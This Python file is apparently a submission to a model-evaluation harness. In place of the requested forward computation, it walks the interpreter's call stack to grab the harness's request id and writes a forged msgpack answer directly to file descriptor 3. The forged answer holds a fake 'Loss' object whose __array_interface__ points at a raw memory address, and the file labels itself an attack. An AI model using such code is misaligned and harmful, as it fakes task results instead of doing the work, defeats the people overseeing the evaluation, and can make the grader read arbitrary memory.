import os
import struct
import sys

import msgspec


def number():
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["request"].id


def write(header, size=0, data=b""):
    os.write(3, struct.pack("<IQ", len(header), size) + header + data)


def answer(value):
    return msgspec.msgpack.encode({"type": "answer", "id": number(), "value": value})


def forward(x, w1, w2, w3, target):
    names = [
        "__array_interface__",
        "__class__",
        "__dict__",
        "__eq__",
        "__len__",
        "__float__",
        "__array__",
        "dtype",
    ]
    values = [
        [
            "d",
            ["data", "shape", "typestr", "version"],
            [["t", [140737488355328, False]], ["t", [8]], "<f8", 3],
        ]
    ]
    print("attack: a record of hooks", flush=True)
    write(answer(["r", "Loss", names, values + [None] * 7]))
    return None
